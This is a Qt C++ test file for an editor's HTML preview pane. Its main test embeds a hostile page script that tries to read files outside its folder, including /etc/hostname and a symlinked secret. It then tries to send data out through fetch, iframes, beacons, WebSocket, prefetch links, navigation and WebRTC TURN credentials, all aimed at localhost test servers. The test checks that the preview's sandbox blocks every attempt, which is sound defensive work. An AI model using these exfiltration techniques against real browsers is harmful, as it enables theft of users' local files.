#include "folderrequestinterceptor.h"
#include "previewcontroller.h"
#include "previewpane.h"
#include "testsupport.h"
#include "webenginesandbox.h"

#include <QTcpServer>
#include <QUdpSocket>
#include <QWebEngineSettings>
#include <QWebEngineView>

using namespace zendral;
using namespace zendral::test;
using namespace Qt::StringLiterals;

namespace {

// A shown main window with its document tabs.
struct Fixture : WindowFixture
{
    QTabWidget *tabs = window.findChild<QTabWidget *>(QStringLiteral("SSTab1"));

    Fixture() { showAndWait(); }
    void clickTab(int index)
    {
        QTest::mouseClick(tabs->tabBar(), Qt::LeftButton, {},
                          tabs->tabBar()->tabRect(index).center());
        QCOMPARE(tabs->currentIndex(), index);
    }
    QWebEngineView *browser() { return window.findChild<QWebEngineView *>(u"browser"_s); }
    // Saves a page titled "esperando" that runs script as path; its preview shows it at once.
    void preview(const QString &path, const QString &script)
    {
        page().setText(QStringLiteral("<html><head><title>esperando</title></head><body><script>") +
                       script + QStringLiteral("</script></body></html>"));
        trigger(QStringLiteral("mn_guardar"), path);
        clickTab(1);
        QVERIFY(prompts.notices.isEmpty());
        QCOMPARE(browser()->url(), QUrl::fromLocalFile(path));
    }
};

} // namespace

class TestPreview : public QObject
{
    Q_OBJECT

public:
    static void initMain()
    {
        relaxWebEngineSandboxForRoot();
        QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    }

private slots:
    // Only a page saved as it is shows; else the user is told, and the tab stays, empty.
    void saveFirst_data()
    {
        QTest::addColumn<bool>("saved");
        QTest::newRow("right after start-up") << false;
        QTest::newRow("an edit after Save") << true;
    }

    void saveFirst()
    {
        QFETCH(bool, saved);
        QTemporaryDir dir;
        Fixture f;
        if (saved) {
            // The preview tab is visited and left once with the file saved.
            f.preview(dir.filePath(QStringLiteral("uno.html")), QString());
            f.clickTab(0);
            f.view.setFocus();
            QTest::keyClick(&f.view, Qt::Key_X);
        }
        f.clickTab(1);
        QCOMPARE(f.prompts.notices, QStringList(PreviewController::saveFirstToPreview()));
        if (f.browser())
            QTRY_COMPARE(f.browser()->url(), QUrl(QStringLiteral("about:blank")));
    }

    // An attacker's page reads what it can, in its folder and out of it, and tries every way out
    // to servers on this machine, which must see no connection at all. The browser's own guard
    // on remote addresses is off: it let WebSocket through, and the seal must not depend on it.
    void nothingLeavesTheMachine()
    {
        QTcpServer web;
        QVERIFY(web.listen(QHostAddress::LocalHost));
        QUdpSocket datagrams;
        QVERIFY(datagrams.bind(QHostAddress::LocalHost));
        // The reads come back in the title; once all settled, the page leaves itself, the last way
        // out. window.open used to hand back a window kept out of sight, still running the page.
        const QString attack = QStringLiteral(R"(
var H = 'http://127.0.0.1:%1/', s = '', left = 10, results = [];
function settled() {
  if (--left == 0) document.title = results.sort().join(), location.href = H + 'location?d=' + s; }
function tell(way, what) { results.push(way + ':' + what); settled(); }
function read(way, address) {
  var x = new XMLHttpRequest();
  x.onload = () => tell(way, x.responseText); x.onerror = () => tell(way, 'rechazado');
  try { x.open('GET', address); x.send(); } catch (e) { tell(way, 'rechazado'); } }
function add(into, tag, fields) {
  return into.appendChild(Object.assign(document.createElement(tag), fields)); }
read('above', '../secreto.txt'); read('absolute', 'file:///etc/hostname'); read('link', 'enlace.txt');
var o = window.open('../secreto.txt');
if (!o) tell('window', 'rechazado'); else o.addEventListener('load', () => {
  try { tell('window', o.document.body.innerText.trim()); } catch (e) { tell('window', 'rechazado'); } });
fetch('dentro.txt').then(r => r.text()).then(t => {
  tell('beside', t); s = encodeURIComponent(t);
  fetch(H + 'fetch', {method: 'POST', body: t}).finally(settled);
  add(document.body, 'iframe', {onload: settled, src: H + 'iframe?d=' + s});
  navigator.sendBeacon(H + 'beacon', t);
  var w = new WebSocket(H.replace('http', 'ws') + 'websocket?d=' + s); w.onopen = w.onerror = settled;
  add(document.head, 'link', {rel: 'prefetch', href: H + 'prefetch', onload: settled, onerror: settled});
  ['preconnect', 'dns-prefetch', 'icon'].forEach(rel => add(document.head, 'link', {rel, href: H + rel}));
  // Peer connections reach their servers without any request the browser could refuse.
  // A frame of its own is a fresh window, with every constructor in it.
  var Peer = add(document.body, 'iframe', {}).contentWindow.RTCPeerConnection || RTCPeerConnection;
  if (!Peer) { settled(); } else {
    var pc = new Peer({iceServers: [{urls: 'stun:127.0.0.1:%2'},
        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: s}]});
    pc.createDataChannel('d');
    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState == 'complete') settled(); };
    pc.createOffer().then(o => pc.setLocalDescription(o));
  }
});
)")
                                   .arg(web.serverPort())
                                   .arg(datagrams.localPort());

        QTemporaryDir dir;
        writeBytes(dir.filePath(QStringLiteral("secreto.txt")), "SECRETO");
        writeBytes(dir.filePath(QStringLiteral("sitio/dentro.txt")), "DENTRO");
        QVERIFY(QFile::link(dir.filePath(QStringLiteral("secreto.txt")),
                            dir.filePath(QStringLiteral("sitio/enlace.txt"))));
        Fixture f;
        // The browser is made on the first visit to the tab; the second one loads the page again.
        f.preview(dir.filePath(QStringLiteral("sitio/ataque.html")), attack);
        f.browser()->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls,
                                              true);
        QSignalSpy refused(child<FolderRequestInterceptor>(&f.window, QString()),
                           &FolderRequestInterceptor::refused);
        QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
        QSignalSpy titles(f.browser(), &QWebEngineView::titleChanged);
        f.clickTab(0);
        f.clickTab(1);
        // Once the page has gone, every request it made has been answered or dropped.
        QTRY_VERIFY_WITH_TIMEOUT(!loads.isEmpty() && !loads.last().first().toBool(), 60000);
        QCoreApplication::processEvents();
        QCOMPARE(web.hasPendingConnections() + datagrams.hasPendingDatagrams(), 0);
        QVERIFY(titles.contains(QVariantList{QStringLiteral(
            "above:rechazado,absolute:rechazado,beside:DENTRO,link:rechazado,window:rechazado")}));
        // Every way out was tried, and the seal refused each one itself.
        QSet<QString> tried;
        for (const QList<QVariant> &address : refused)
            tried.insert(address.first().toUrl().path().mid(1));
        QVERIFY(tried.contains({"fetch", "iframe", "location", "beacon", "websocket", "prefetch"}));
    }

    void wideFolderRunsNoScript_data()
    {
        QTest::addColumn<QString>("folder");
        QTest::addColumn<bool>("scripts");
        QTest::newRow("the home folder itself") << QStringLiteral("casa") << false;
        QTest::newRow("a folder inside the home folder") << QStringLiteral("casa/web") << true;
        QTest::newRow("the root folder") << QStringLiteral("/") << false;
    }

    void wideFolderRunsNoScript()
    {
        QFETCH(QString, folder);
        QFETCH(bool, scripts);
        QTemporaryDir dir;
        const QByteArray home = qgetenv("HOME");
        qputenv("HOME", QFile::encodeName(dir.filePath(QStringLiteral("casa"))));
        const QString inFolder = folder == u"/" ? folder : dir.filePath(folder);
        if (!QFileInfo(inFolder).isWritable() && !QDir().mkpath(inFolder))
            QSKIP("the folder cannot be written to");
        QTemporaryFile page(QDir(inFolder).filePath(QStringLiteral("zendral-XXXXXX.html")));
        QVERIFY(page.open());
        Fixture f;
        f.preview(page.fileName(), QStringLiteral("document.title = 'corrio';"));
        QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
        QVERIFY(loads.wait(20000));
        qputenv("HOME", home);
        QCOMPARE(f.browser()->title(), QString::fromLatin1(scripts ? "corrio" : "esperando"));
        auto *note = child<QLabel>(&f.window, QStringLiteral("previewNote"));
        QCOMPARE(note->isVisible(), !scripts);
        if (!scripts) {
            QCOMPARE(note->text(),
                     PreviewPane::SinScripts(QFileInfo(page.fileName()).absolutePath()));
            QCOMPARE(note->textFormat(), Qt::PlainText);
        }
    }
};

QTEST_MAIN(TestPreview)
#include "tst_preview.moc"
